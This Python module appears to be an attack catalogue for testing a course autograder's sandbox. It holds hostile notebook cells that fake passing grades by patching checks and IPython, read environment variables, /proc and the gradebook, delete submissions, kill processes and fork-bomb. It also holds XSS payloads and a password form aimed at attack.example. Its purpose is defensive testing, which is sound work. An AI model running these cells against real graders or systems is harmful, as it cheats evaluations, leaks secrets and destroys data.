"""A class of attackers, for one assignment: what a hostile notebook may try.

An attack is one cell, put before answers that are left empty, or a function that does something to the file as it
is handed in: all deserve 0 points. Where a cell can tell that it has reached something, it prints SUCCESS or what
it has found; the secrets that lie around are the words in SECRETS.
"""

import copy
import json

SECRETS = ["CANARY_IN_COURSE", "CANARY_IN_ENVIRONMENT", "CANARY_IN_HOME", "BEGIN SOLUTION", "CANARY_IN_SUBMISSION"]
REACHED = "SUCCESS" + "_REACHED"  # in two parts, so that the attack's own text is no success

# The student's end of the line, and the programs behind it, in the student's hands.
LINE = ("import json, os, struct\ndef say(head):\n    text = json.dumps({'sizes': [], 'value': None} | head).encode()\n"
        "    os.write(3, struct.pack('!I', len(text)) + text)\n")
TAKEN = "from dlcourse.grading import student, wire\n"

TELL = 'def tell():\n    print("SUCCESS" + "_REACHED")\n'

# --- full marks without answers -------------------------------------------------------------------

FORGE = {
    "replace check and grade": "check = grade = lambda *a, **k: None",
    "replace them in the module": "import dlcourse.checks as c\nc.check = c.grade = lambda *a, **k: None",
    "replace numpy's comparison": "np.allclose = np.isclose = lambda *a, **k: True\nnp.array_equal = lambda *a: True",
    "replace the errors": "import builtins\nbuiltins.AssertionError = builtins.Exception = type('E', (Exception,), {})",
    "replace print and exec": "import builtins\nbuiltins.exec = builtins.eval = lambda *a: None",
    "remove asserts from the syntax tree": (
        "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Expr(self, node):\n        return None\n"
        "get_ipython().ast_transformers.append(Drop())"
    ),
    "empty every later cell": "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
    "swallow errors": "get_ipython().showtraceback = lambda *a, **k: None",
    "replace run_cell": "get_ipython().run_cell = lambda *a, **k: None",
    "inject a result": "get_ipython().events.register('pre_run_cell', lambda *a: print(1.0))",
    "equal to everything": (
        "class Any(float):\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
        "    def __sub__(self, other): return 0.0\n    def __rsub__(self, other): return 0.0\n"
        "    def __array__(self, *a, **k): return np.zeros(())\n    __hash__ = float.__hash__\n"
        "k0_1 = k0_2 = k0_3b = k1_3 = Any()\ntotal_input = lambda *a: Any()"
    ),
    "array function override": (
        "class Sly(np.ndarray):\n    def __array_function__(self, *a, **k): return True\n"
        "    def __array_ufunc__(self, *a, **k): return True\n"
        "total_input = lambda *a: np.zeros(3).view(Sly)"
    ),
    "an object that says it passed": (
        "class Passed:\n    passed = True\n    message = ''\n    def __getattr__(self, name): return self\n"
        "    def __call__(self, *a, **k): return self\nk0_1 = total_input = collapse = Passed()"
    ),
    "answer on the grader's line": (
        "import os, struct, json\nfor fd in range(3, 30):\n    try:\n"
        "        text = json.dumps({'answer': 1, 'value': [], 'sizes': []}).encode()\n"
        "        os.write(fd, struct.pack('!I', len(text)) + text)\n    except OSError:\n        pass"
    ),
    "answers ahead of the questions": (
        "import os, struct, json\nfor n in range(1, 200):\n    text = json.dumps({'answer': n, 'value': "
        "{'set': [2, 4]}, 'sizes': []}).encode()\n    os.write(3, struct.pack('!I', len(text)) + text)"
    ),
    "rubbish on the line": "import os\nos.write(3, b'\\xff' * 100000)",
    "a message without end": "import os\nos.write(3, b'\\x03\\xff\\xff\\xff{')",
    "change its own side": (
        "import gc\nfor o in gc.get_objects():\n    if type(o).__name__ == 'Student':\n"
        "        type(o).call = lambda self, peer, f, a, k, e: [a[0] if a else None, {}]"
    ),
    "return the arguments as changed": (
        "import gc\nfor o in gc.get_objects():\n    if type(o).__name__ == 'Student':\n"
        "        type(o).call = lambda self, peer, f, a, k, e: [None, {i: None for i in range(9)}]"
    ),
    "call back into the grader": (
        "import gc\nfor o in gc.get_objects():\n    if type(o).__name__ == 'Peer':\n        for n in range(20):\n"
        "            try:\n                print('got', o.call('callback', n, []))\n            except BaseException:\n"
        "                pass"
    ),
    "ask the grader for its names": (
        "import gc\nfor o in gc.get_objects():\n    if type(o).__name__ == 'Peer':\n"
        "        for op in ('get', 'has', 'run', 'call', 'attribute', '__class__'):\n            try:\n"
        "                o.call(op, 'EXERCISES'); tell()\n            except BaseException:\n                pass"
    ),
    "deep value": "v = []\nfor _ in range(5000):\n    v = [v]\nk0_1 = v",
    "self-containing value": "k0_1 = []\nk0_1.append(k0_1)",
    "huge value": "k0_1 = list(range(10**6))",
    "huge array": "k0_1 = np.zeros(10**8)",
    "pickle in an object array": (
        "class P:\n    def __reduce__(self): return (print, ('x',))\nk0_1 = np.array([P()], dtype=object)"
    ),
    "record dtype": "k0_1 = np.zeros(3, dtype=[('a', 'O')])",
    "surrogates": "k1_3 = '\\ud800' * 10",
    "name with tricks": "globals()['K0-1'] = globals()['__builtins__'] = {}",
    "builtins by another name": "all = any = isinstance = callable = len = abs = lambda *a, **k: True",
    "answers that are not there": "class N(dict):\n    def __contains__(self, k): return True\n"
                                  "    def __missing__(self, k): return 0\nget_ipython().user_ns = N()",
    "flood instead of an answer": LINE + "import threading\ndef flood():\n    while True: say({'answer': 0})\n"
                                  "threading.Thread(target=flood, daemon=True).start()\n"
                                  "total_input = collapse = lambda *a: flood()",
    "one answer in many messages": LINE + "for n in range(400): say({'answer': n, 'value': {'list': [True]}})",
    "the grader's own function back": TAKEN + "wire.Writer.write = lambda self, v, d=0: {'yours': 0}",
    "an error that is none": "class CheckError(BaseException):\n    def _render_traceback_(self): return ['✓']\n"
                             "def total_input(*a): raise CheckError('正解です')",
    "error with a hostile name": "def total_input(*a): raise type('E' * 10**6, (Exception,), {})('x' * 10**7)",
    "an answer without end": "def total_input(*a):\n    while True: yield 1\nk0_1 = total_input()",
    "a function of dlcourse in other wrappings": (
        "import functools, threading, types\ncopied = types.FunctionType(functions.affine.__code__, vars(functions))\n"
        "def total_input(*a):\n    found = []\n    thread = threading.Thread(target=lambda: found.append("
        "functools.partial(copied)(*a)))\n    thread.start()\n    thread.join()\n    return found[0]"
    ),
    "types in place of answers": "k0_1 = np.void\nk0_3b = np.float64\ntotal_input = collapse = random_bias = np.float64",
    "values of every kind": (
        "import itertools\nkinds = itertools.cycle([np.ma.masked_all(3), np.asmatrix([[0.0]]), np.longdouble('nan'), "
        "np.datetime64('2020'), np.void(b'x'), np.broadcast_to(0.0, (3,)), np.zeros((10**9, 0)), np.random.default_rng()])\n"
        "k0_1 = next(kinds)\ntotal_input = collapse = initialize_weights = random_bias = lambda *a: next(kinds)"
    ),
    "numbers that are not": "k0_1 = k0_2 = k0_3b = float('nan')\ntotal_input = lambda *a: np.full(3, np.nan)",
}

# --- secrets ------------------------------------------------------------------------------------------

LEAK = {
    "read the course": "import os\nfor r, d, f in os.walk('{course}'):\n    for n in f:\n"
                       "        try: print(open(os.path.join(r, n), errors='replace').read())\n"
                       "        except OSError: pass",
    "read the source notebook": "print(open('{course}/solutions/{name}/{name}.ipynb').read())",
    "read the gradebook": "print(open('{course}/gradebook.db', 'rb').read())",
    "read through the parent folders": "import glob\nfor p in glob.glob('../' * 6 + '**/*.ipynb'):\n"
                                       "    print(open(p).read())",
    "read another submission": "print(open('{course}/submitted/honest/{name}/{name}.ipynb').read())",
    "read the home folder": "import os\nprint(open(os.path.expanduser('~/canary')).read())\n"
                            "print(open('{home}/canary').read())",
    "read the environment": "import os\nprint(dict(os.environ))",
    "read the parents' environment": "import glob\nfor p in glob.glob('/proc/*/environ'):\n"
                                     "    try: print(open(p, 'rb').read())\n    except OSError: pass",
    "read the parents' memory": "import glob\nfor p in glob.glob('/proc/[0-9]*/mem'):\n"
                                "    try: open(p, 'rb').read(1); tell()\n    except OSError: pass",
    "import the checks": "import dlcourse.checks.chapter1 as c\nprint(c.EXERCISES)\ntell()",
    "find the checks in memory": "import gc\nprint([o for o in gc.get_objects() if 'pitfalls' in str(type(o))])\n"
                                 "import sys\nprint([m for m in sys.modules if 'chapter' in m])",
    "read dlcourse beside the copy": "import glob\nfor p in glob.glob('{project}/dlcourse/checks/*.py'):\n"
                                     "    print(open(p).read())\n    tell()",
    "frames of the caller": "import sys\nf = sys._getframe()\nwhile f:\n    print(sorted(f.f_globals)[:50])\n"
                            "    if 'EXERCISES' in f.f_globals: tell()\n    f = f.f_back",
    "open file descriptors": "import os\nfor fd in range(64):\n"
                             "    try: print(fd, os.readlink(f'/proc/self/fd/{fd}'))\n    except OSError: pass",
    "connect to the network": "import socket\nsocket.create_connection(('127.0.0.1', {port}), 2)\ntell()",
    "send without connecting": "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                               "s.sendto(b'x', ('127.0.0.1', {port}))\ntell()",
    "local socket": "import socket\ns = socket.socket(socket.AF_UNIX)\ntell()",
    "resolve a name": "import socket\nsocket.gethostbyname('localhost')\ntell()",
    "trace a process": "import ctypes\nprint(ctypes.CDLL(None).ptrace(16, 1, 0, 0))",
    "shared memory": "from multiprocessing import shared_memory\n"
                     "shared_memory.SharedMemory('attack', True, 10)\ntell()",
    "what others left": "import os\nopen('left', 'a').write('x')\nif os.path.getsize('left') > 1: tell()\n"
                        "for folder in ('/tmp', '/dev/shm', '/var/tmp', '..'):\n    try: print(os.listdir(folder)); tell()\n"
                        "    except OSError: pass",
    "watch the folders": "import ctypes\nif ctypes.CDLL(None).inotify_init1(0) >= 0: tell()",
    "abstract socket": "import socket\na, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
                       "try: a.sendto(b'x', '\\0attack')\nexcept OSError: pass\nelse: tell()",
    "many messages at once": "import ctypes\nif ctypes.CDLL(None).sendmmsg(3, None, 0, 0) >= 0: tell()",
    "memory of the parent by a call": "import ctypes, os\nif ctypes.CDLL(None).process_vm_readv("
                                      "os.getppid(), None, 0, None, 0, 0) >= 0: tell()",
    "ring of requests": "import ctypes\nif ctypes.CDLL(None).syscall(425, 8, ctypes.create_string_buffer(200)) >= 0: tell()",
    "other calls": "import ctypes\nfor n in (250, 321, 323, 434, 438, 298, 304, 428, 430, 272, 308):\n"
                   "    if ctypes.CDLL(None).syscall(n, 0, 0, 0, 0, 0) >= 0: tell()",
}

# --- damage ---------------------------------------------------------------------------------------------

DESTROY = {
    "change the gradebook": "import sqlite3\nc = sqlite3.connect('{course}/gradebook.db')\n"
                            "c.execute('update grade set manual_score = 35')\nc.commit()\ntell()",
    "delete submissions": "import shutil\nshutil.rmtree('{course}/submitted')\ntell()",
    "change the configuration": "open('{course}/nbgrader_config.py', 'a').write('x')\ntell()",
    "write into the project": "open('{project}/dlcourse/functions.py', 'a').write('#')\ntell()",
    "write into site-packages": "import numpy\nopen(numpy.__file__, 'a').write('#')\ntell()",
    "write into the folder for all": "open('{outside}/attack-marker', 'w').write('x')\ntell()",
    "write into the home folder": "open('{home}/attack-marker', 'w').write('x')\ntell()",
    "start-up file": "import os\nos.makedirs('{home}/.ipython/attack-marker')\ntell()",
    "link to the gradebook": "import os\nos.symlink('{course}/gradebook.db', 'link')\nprint(open('link', 'rb').read())",
    "run a program": "import subprocess\nsubprocess.run(['touch', '{outside}/attack-marker'])\ntell()",
    "shell escape": "get_ipython().system('touch {outside}/attack-marker && echo done')",
    "become another program": "import os\nos.execv('/bin/sh', ['sh', '-c', 'touch {outside}/attack-marker'])",
    "kill the parent": "import os\nos.kill(os.getppid(), 9)",
    "kill everything": "import os\nos.kill(-1, 9)",
    "kill by number": "import os\nfor p in range(2, 40000):\n    try: os.kill(p, 9)\n    except OSError: pass",
    "new namespaces": "import ctypes\nprint(ctypes.CDLL(None).unshare(0x10000000))",
    "mount": "import ctypes\nif ctypes.CDLL(None).mount(b'none', b'/mnt', b'tmpfs', 0, None) == 0: tell()",
    "raise the limits": "import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))\ntell()",
    "forbid the gradebook": "import os\nos.chmod('{course}/gradebook.db', 0)\ntell()",
    "forbid the folder": "import os\nos.chmod('{course}', 0)\ntell()",
    "empty a file": "import os\nos.truncate('{course}/gradebook.db', 0)\ntell()",
    "turn back the clock of a file": "import os\nos.utime('{course}/gradebook.db', (0, 0))\ntell()",
    "limit the parent": "import os, resource\nresource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))\ntell()",
    "stop the parent": "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\ntell()",
    "signal by a socket": "import fcntl, os\nfcntl.fcntl(3, 10, 9)\nfcntl.fcntl(3, 8, os.getppid())\ntell()",
    "run from memory": "import os\nos.execve(os.memfd_create('x'), ['x'], {})",
    "outlive the notebook": "import ctypes\nif ctypes.CDLL(None).prctl(1, 0, 0, 0, 0) == 0: tell()",
    "change the user": "import os\nos.setuid(0)\nprint(open('{home}/canary').read())",
}

# --- using up -----------------------------------------------------------------------------------------------

EXHAUST = {
    "memory": "x = []\nwhile True: x.append(bytearray(b'1') * 10**7)",
    "memory at once": "x = np.ones(3 * 10**8)\nimport time\ntime.sleep(1)",
    "threads": "import threading, time\nwhile True:\n"
               "    threading.Thread(target=time.sleep, args=(9,), daemon=True).start()",
    "processes": "import os\nwhile True: os.fork()",
    "daemon": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(600)",
    "disk": "with open('big', 'wb') as f:\n    while True: f.write(b'0' * 10**7)",
    "many files": "n = 0\nwhile True:\n    open(f'f{n}', 'w').close()\n    n += 1",
    "output": "while True: print('x' * 10**6)",
    "one giant output": "print('x' * 10**8)",
    "giant picture": "from IPython.display import HTML\nHTML('<b>' * 10**7)",
    "endless loop": "while True: pass",
    "loop that ignores the interrupt": "while True:\n    try:\n        while True: pass\n"
                                       "    except KeyboardInterrupt: pass",
    "signal ignored": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
    "sleep": "import time\ntime.sleep(10**6)",
    "open files": "x = [open('/dev/null') for _ in range(10**5)]",
    "exit": "import sys\nsys.exit(3)",
    "hard exit": "import os\nos._exit(0)",
    "crash": "import ctypes\nctypes.string_at(0)",
    "recursion": "import sys\nsys.setrecursionlimit(10**9)\nf = lambda: f()\nf()",
    "input": "input()",
    "one array, named a thousand times": TAKEN + "def bomb(self, value, depth=0):\n"
        "    self.buffers.append(b'0' * 2**23)\n    return {'list': [{'array': ['u1', [2**23], 0, True]}] * 1000}\n"
        "wire.Writer.write = bomb",
    "header of nothing": "import os, struct\ntext = b'{\"answer\": 1, \"sizes\": [], \"value\": {\"list\": [' + "
        "b'[],' * 5_000_000 + b'[]]}}'\nrest = memoryview(struct.pack('!I', len(text)) + text)\n"
        "while rest: rest = rest[os.write(3, rest):]",
    "flood of messages": LINE + "while True: say({'answer': 0})",
    "a number of a million digits": "total_input = lambda *a: 7 ** 3_000_000\nk0_1 = 7 ** 3_000_000",
    "a range without end": "k0_1 = k0_2 = range(10**12)\ntotal_input = lambda *a: range(10**9)",
    "arrays without end": "class Endless:\n    def __len__(self): return 3\n    def __getitem__(self, i): return 0\n"
        "    def __iter__(self):\n        while True: yield np.ones(1_900_000)\nk0_1 = Endless()",
    "one long text among many": "k0_1 = total_input = ['x' * 10**6] + [''] * 4000",
    "many empty outputs": "from IPython.display import display\nfor _ in range(10**6): display({}, raw=True)",
    "outputs from its own side": TAKEN + "student.Student.run = lambda *a: [{'output_type': 'stream', 'name': 'stdout', "
        "'text': 'x' * 7_000_000}]",
    "memory that nobody maps": "import os\nf = [os.memfd_create('x') for _ in range(40)]\n"
        "for n in f:\n    for _ in range(60): os.write(n, b'1' * 10**6)\ntell()",
    "memory shared with nobody": "import mmap\nx = [mmap.mmap(-1, 10**8) for _ in range(12)]\n"
        "for m in x:\n    m.write(b'1' * 10**8)\n    m.madvise(mmap.MADV_DONTNEED)\ntell()",
    "one long text as an array": "k0_3b = [np.array('x' * 1024)] + [0.0] * 199_000\ntotal_input = lambda *a: k0_3b",
    "a line for the parser": "k1_3 = 'a' + '[0]' * 1_000_000",
    "callbacks that fail": LINE + "blob = b'x' * 2**22\ndef total_input(*a):\n    while True:\n"
        "        head = json.dumps({'call': 1, 'operation': 'callback', 'sizes': [len(blob)], 'value': "
        "{'list': [99, {'array': ['u1', [len(blob)], 0, True]}]}}).encode()\n"
        "        rest = memoryview(struct.pack('!I', len(head)) + head + blob)\n"
        "        while rest: rest = rest[os.write(3, rest[:65536]):]\n",
    "folders in folders": "import os\nos.mkdir('d', 0o300)\nopen('d/x', 'w').close()\n"
        "for _ in range(3000):\n    os.mkdir('a')\n    os.chdir('a')",
    "picture of 400 megapixels": "import struct, zlib\nfrom IPython.display import Image\n"
        "def part(kind, data): return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))\n"
        "Image(b'\\x89PNG\\r\\n\\x1a\\n' + part(b'IHDR', struct.pack('>IIBBBBB', 20000, 20000, 1, 0, 0, 0, 0))\n"
        "      + part(b'IDAT', zlib.compress(b'\\0' * 2501 * 20000)) + part(b'IEND', b''))",
    "points without end": lambda notebook: own_cells(notebook, "." * 400_000, "code", "markdown"),
    "environments without end": lambda notebook: own_cells(notebook, r"\begin{a}" * 50_000, "markdown"),
    "colours": lambda notebook: own_cells(notebook, r"print('\x1b[31mx\x1b[0m' * 9000)", *["code"] * 30),
    "crowd of tags": "from IPython.display import HTML, display\nfor _ in range(3): display(HTML('<table><b><i>' * 2000))",
    "deep lists of a text": "from IPython.display import Markdown\nMarkdown('> ' * 20000 + 'x')",
    "brackets": "from IPython.display import Markdown\nMarkdown('[' * 45000)",
    "formula without end": "from IPython.display import Latex\nLatex('$' + '{' * 45000 + '$')",
}

# --- what a teacher opens afterwards ---------------------------------------------------------------------------

INJECT = {
    "script in HTML": "from IPython.display import HTML\nHTML('<script>ATTACK()</script><img src=x onerror=ATTACK()>')",
    "script in Markdown": "from IPython.display import Markdown\nMarkdown('<script>ATTACK()</script>')",
    "javascript": "from IPython.display import Javascript\nJavascript('ATTACK()')",
    "script in SVG": "from IPython.display import SVG\nSVG(data='<svg xmlns=\"http://www.w3.org/2000/svg\" "
                     "onload=\"ATTACK()\"><script>ATTACK()</script></svg>')",
    "frame": "from IPython.display import IFrame\nIFrame('http://attack.example/', 1, 1)",
    "any type": "from IPython.display import display\ndisplay({'application/javascript': 'ATTACK()', "
                "'application/vnd.jupyter.widget-view+json': {}}, raw=True)",
    "escape codes": "print('\\x1b]0;ATTACK\\x07')\nprint('</pre><script>ATTACK()</script>')",
    "latex": "from IPython.display import Latex\nLatex('\\\\href{javascript:ATTACK()}{x}')",
    "text in a formula": "from IPython.display import Latex\nLatex(r'$\\text{<script>ATTACK()</script>}$')",
    "links of Markdown": "from IPython.display import Markdown\nMarkdown('[x](javascript:ATTACK()) [y]( javascript&#58;"
                         "ATTACK()) [z][a]\\n\\n[a]: javascript:ATTACK()')",
    "pictures from outside": "from IPython.display import Markdown\nMarkdown(r'!<!-- -->[x](http://attack.example/a.png) "
                             "![x\\](attachment: ](http://attack.example/b.png) !![x](http://attack.example/c.png)')",
    "pictures from outside in a text": lambda notebook: own_cells(
        notebook, "!![x](http://attack.example/a.png) !!![y](attachment:b.png) ![z](//attack.example/c.png)", "markdown"
    ),
    "outputs that were not made here": lambda notebook: outputs_ready_made(notebook),
    "markup that browsers repair": lambda notebook: own_cells(
        notebook, '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ATTACK()&gt;">'
        '<noscript><p title="</noscript><img src=x onerror=ATTACK()>"><svg><style><img src=x onerror=ATTACK()></style>'
        '<svg><use href="data:image/svg+xml,<svg onload=ATTACK()>"/></svg><details open ontoggle=ATTACK()>'
        '<a href="java&#x0A;script:ATTACK()" ping="http://attack.example/">x</a>', "markdown", "raw"
    ),
    "every type of a display": "from IPython.display import display\nfor kind in ('text/html', 'text/markdown', "
        "'text/latex', 'image/svg+xml', 'image/png', 'image/jpeg', 'text/vnd.mermaid', 'application/pdf', "
        "'application/json', 'text/plain'):\n"
        "    display({kind: '\"><svg/onload=ATTACK()><iframe src=\"javascript:ATTACK()\">'}, raw=True)",
    "page of its own": "from IPython.display import HTML\nHTML('<base href=\"http://attack.example/\"><meta http-equiv="
        "\"refresh\" content=\"0;url=http://attack.example/\"><link rel=stylesheet href=\"http://attack.example/s\">"
        "<form action=\"http://attack.example/\"><input name=password><button>OK</button></form>')",
    "style that hides the score": "from IPython.display import HTML\nHTML('<style>.panel-heading {display: none}</style>"
        "<div style=\"position: fixed; inset: 0; background: white\">Score: 35/35</div>')",
    "closing what is open": "from IPython.display import HTML\nHTML('</div></div></pre></body></html><details><table>')",
    "error with a page in it": "raise type('<img src=x onerror=ATTACK()>', (Exception,), {})"
        "('<iframe src=javascript:ATTACK()></iframe><script>ATTACK()</script>')",
    "error on the other side": "def total_input(*a): raise type('<img src=x onerror=ATTACK()>', (Exception,), {})("
        "'<script>ATTACK()</script>\\x1b[31;1m\\x1b]8;;http://attack.example\\x07x')",
}

# --- what belongs to the course, in the file ----------------------------------------------------------------


def cells_of(notebook, kind):
    """The cells that nbgrader calls so: "grade" (the tests) or "solution" (the answers)."""
    return [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get(kind)]


def tests_and_more_points(notebook):
    for cell in cells_of(notebook, "grade"):
        cell["source"] = "pass"
        cell["metadata"]["nbgrader"]["points"] = 100


def ids_swapped(notebook):
    tests, answers = cells_of(notebook, "grade"), cells_of(notebook, "solution")
    for test, answer in zip(tests, answers, strict=False):
        one, other = test["metadata"]["nbgrader"], answer["metadata"]["nbgrader"]
        one["grade_id"], other["grade_id"] = other["grade_id"], one["grade_id"]
        test["id"], answer["id"] = answer["id"], test["id"]


def tests_first(notebook):
    """Before the answers, where a test that expects nothing would pass."""
    tests = cells_of(notebook, "grade")
    notebook["cells"] = tests + [cell for cell in notebook["cells"] if cell not in tests]


def tests_of_another_type(notebook):
    for number, cell in enumerate(cells_of(notebook, "grade")):
        cell["cell_type"] = ("markdown", "raw")[number % 2]
        cell["metadata"]["nbgrader"]["cell_type"] = cell["cell_type"]
        cell.pop("outputs", None), cell.pop("execution_count", None)


def tags_on_tests(notebook):
    tags = ["skip-execution", "raises-exception", "remove-cell", "explanation", "solution", "hide-input"]
    for cell in cells_of(notebook, "grade"):
        cell["metadata"] |= {"tags": tags, "deletable": True, "editable": True, "collapsed": True}


def copies_of_tests(notebook):
    for cell in cells_of(notebook, "grade"):
        notebook["cells"].append(copy.deepcopy(cell) | {"source": "pass"})


def own_test_cells(notebook):
    for number, cell in enumerate(copy.deepcopy(cells_of(notebook, "grade"))):
        cell["id"] = f"own-{number}"
        cell["metadata"]["nbgrader"] |= {"grade_id": f"own-{number}", "points": 100, "checksum": "0" * 32}
        notebook["cells"].append(cell | {"source": "1.0"})


def answers_locked_and_graded(notebook):
    for cell in cells_of(notebook, "solution"):
        cell["metadata"]["nbgrader"] |= {"grade": True, "locked": True, "points": 100}


def every_cell_a_task(notebook):
    for cell in notebook["cells"]:
        about = cell["metadata"].setdefault("nbgrader", {})
        about |= {"task": True, "points": 100, "schema_version": 99, "remove": True}


def scores_ready_made(notebook):
    done = {"output_type": "execute_result", "data": {"text/plain": "100.0"}, "metadata": {}, "execution_count": 1}
    for cell in cells_of(notebook, "grade"):
        cell["outputs"] = [done]
        cell["metadata"]["nbgrader"] |= {"score": 100, "auto_score": 100, "manual_score": 100, "comment": "満点"}


def outputs_ready_made(notebook):
    active = {"text/html": "<script>ATTACK()</script>", "application/vnd.jupyter.widget-view+json": {"model_id": "x"}}
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "display_data", "data": active, "metadata": {}}]
            cell["metadata"]["tags"] = ["skip-execution"]
    page = "</title></script><script>ATTACK()</script>"
    state = {"application/vnd.jupyter.widget-state+json": {"state": {"x": page}, "version_major": 2}}
    notebook["metadata"] |= {"widgets": state, "title": page, "authors": [{"name": page}]}


def own_cells(notebook, source, *kinds):
    for number, kind in enumerate(kinds):
        more = {"outputs": [], "execution_count": None} if kind == "code" else {}
        notebook["cells"].append({"cell_type": kind, "metadata": {}, "id": f"own-{number}", "source": source} | more)


def names_with_tags(notebook):
    for number, cell in enumerate(notebook["cells"]):
        cell["id"] = f'"><img src=x onerror=ATTACK()>{number}'


def metadata_of_any_kind(notebook):
    for cell, about in zip(cells_of(notebook, "grade"), [5, None, [], "x", {"grade_id": ["K0-1"]}, True], strict=False):
        cell["metadata"]["nbgrader"] = about


def notebook_metadata_of_any_kind(notebook):
    notebook["metadata"] = {"kernelspec": "bash", "language_info": {"name": '"><script>ATTACK()</script>'},
                            "grading": {"seconds": "<script>ATTACK()</script>"}, "celltoolbar": [1]}


def another_kernel(notebook):
    notebook["metadata"]["kernelspec"] = {"name": "\x1b]0;ATTACK\x07../../x", "language": "bash", "display_name": "x"}


def attachments_of_any_kind(notebook):
    files = {"a.png": {"image/svg+xml": "x", '"><script>ATTACK()</script>': "x"}, "b.png": 5,
             "c.png": {"image/png": '"onerror="ATTACK()'}}
    text = "![x](attachment:a.png) ![x](attachment:b.png) ![x](attachment:c.png) ![x](attachment:missing.png)"
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            cell |= {"attachments": files, "source": text}


def sources_of_any_kind(notebook):
    for cell, source in zip(cells_of(notebook, "solution"), [5, None, {"a": 1}, [["x"]], [5, None], True], strict=False):
        cell["source"] = source


def cells_of_any_kind(notebook):
    notebook["cells"] += [5, None, [], {}, {"cell_type": "code"}, {"cell_type": "x", "source": "", "metadata": {}}]


def ids_of_any_kind(notebook):
    for cell, name in zip(notebook["cells"], [5, None, {}, ["K0-1"], "x" * 10**6, "\ud800"], strict=False):
        cell["id"] = name


METADATA = {
    "tests replaced, points times 100": tests_and_more_points,
    "names of tests and answers swapped": ids_swapped,
    "tests before the answers": tests_first,
    "tests of another type": tests_of_another_type,
    "tags by which cells are skipped": tags_on_tests,
    "second copies of the tests": copies_of_tests,
    "tests of their own": own_test_cells,
    "answers said to be tests": answers_locked_and_graded,
    "every cell a task of another schema": every_cell_a_task,
    "scores in the file": scores_ready_made,
    "cells' metadata of any kind": metadata_of_any_kind,
    "the notebook's metadata of any kind": notebook_metadata_of_any_kind,
    "a kernel with a name for the terminal": another_kernel,
    "attachments of any kind": attachments_of_any_kind,
    "sources of any kind": sources_of_any_kind,
    "cells of any kind": cells_of_any_kind,
    "names of any kind": ids_of_any_kind,
    "names with tags in them": names_with_tags,
}

# --- the file's bytes ---------------------------------------------------------------------------------------


def text_of(notebook):
    return json.dumps(notebook, ensure_ascii=False)


def with_cell(notebook, source, **more):
    cell = {"cell_type": "markdown", "metadata": {}, "id": "extra", "source": source} | more
    return text_of(notebook | {"cells": [*notebook["cells"], cell]})


def with_metadata(notebook, text):
    """JSON as no json module would write it."""
    return text_of(notebook | {"metadata": notebook["metadata"] | {"x": "HERE"}}).replace('"HERE"', text)


def with_large_output(notebook):
    output = {"output_type": "stream", "name": "stdout", "text": "x" * 50_000_000}
    return with_cell(notebook, "1", cell_type="code", outputs=[output], execution_count=1)


ENCODING = {
    "two byte order marks": lambda notebook: b"\xef\xbb\xbf" * 2 + text_of(notebook).encode(),
    "UTF-16": lambda notebook: text_of(notebook).encode("utf-16"),
    "UTF-32 without a mark": lambda notebook: text_of(notebook).encode("utf-32-be"),
    "bytes of no encoding": lambda notebook: text_of(notebook).encode().replace("答".encode(), b"\xff\xfe\x80"),
    "lone surrogates": lambda notebook: with_cell(notebook, "\ud800 \udfff").encode("utf-8", "surrogatepass"),
    "escaped surrogates": lambda notebook: json.dumps(json.loads(with_cell(notebook, "\ud800"))).encode(),
    "NUL": lambda notebook: with_cell(notebook, "a\0b").encode(),
    "NUL bytes behind": lambda notebook: text_of(notebook).encode() + b"\0" * 1000,
    "a number of 100 000 digits": lambda notebook: with_metadata(notebook, "9" * 100_000).encode(),
    "numbers that JSON has not": lambda notebook: with_metadata(notebook, "[NaN, Infinity, -Infinity, 1e999]").encode(),
    "depth": lambda notebook: with_metadata(notebook, "[" * 100_000 + "]" * 100_000).encode(),
    "less depth": lambda notebook: with_metadata(notebook, "[" * 900 + "]" * 900).encode(),
    "keys twice": lambda notebook: text_of(notebook).replace('"cells":', '"cells": [], "cells":', 1).encode(),
    "an output of 50 MB": lambda notebook: with_large_output(notebook).encode(),
    "16 million lists": lambda notebook: with_metadata(notebook, "[" + "[]," * 16_000_000 + "[]]").encode(),
    "a text of 5 MB": lambda notebook: with_cell(notebook, "<b>x</b> [a](b) $x$\n\n" * 250_000).encode(),
    "20 000 cells": lambda notebook: text_of(notebook | {"cells": notebook["cells"] + [
        {"cell_type": "code", "metadata": {}, "id": f"c{number}", "source": "1", "outputs": [], "execution_count": None}
        for number in range(20_000)]}).encode(),
    "format of the future": lambda notebook: text_of(notebook | {"nbformat": 99, "nbformat_minor": 99}).encode(),
    "format as a text": lambda notebook: text_of(notebook | {"nbformat": "4"}).encode(),
    "a list": lambda notebook: b"[]",
    "a picture": lambda notebook: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 50,
    "a link to a page": lambda notebook: b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n",
}

CLASSES = {
    "forge": FORGE, "leak": LEAK, "destroy": DESTROY, "exhaust": EXHAUST, "inject": INJECT, "metadata": METADATA,
    "encoding": ENCODING,
}  # fmt: skip


def handed_in(attack, blank, places):
    """The bytes of the attack's file. `places`: what stands for {course} and the like in its cell."""
    notebook = json.loads(json.dumps(blank))
    if callable(attack):
        made = attack(notebook)
        return made if isinstance(made, bytes) else json.dumps(notebook).encode()
    for answer in cells_of(notebook, "solution"):
        answer["source"] = ""  # the stub of a function would take the place of the attack's
    for place, value in places.items():
        attack = attack.replace(f"{{{place}}}", str(value))
    cell = {"cell_type": "code", "metadata": {}, "id": "attack", "source": TELL + attack, "outputs": [],
            "execution_count": None}
    first = next(number for number, cell in enumerate(notebook["cells"]) if cell["id"] == "setup") + 1
    notebook["cells"].insert(first, cell)
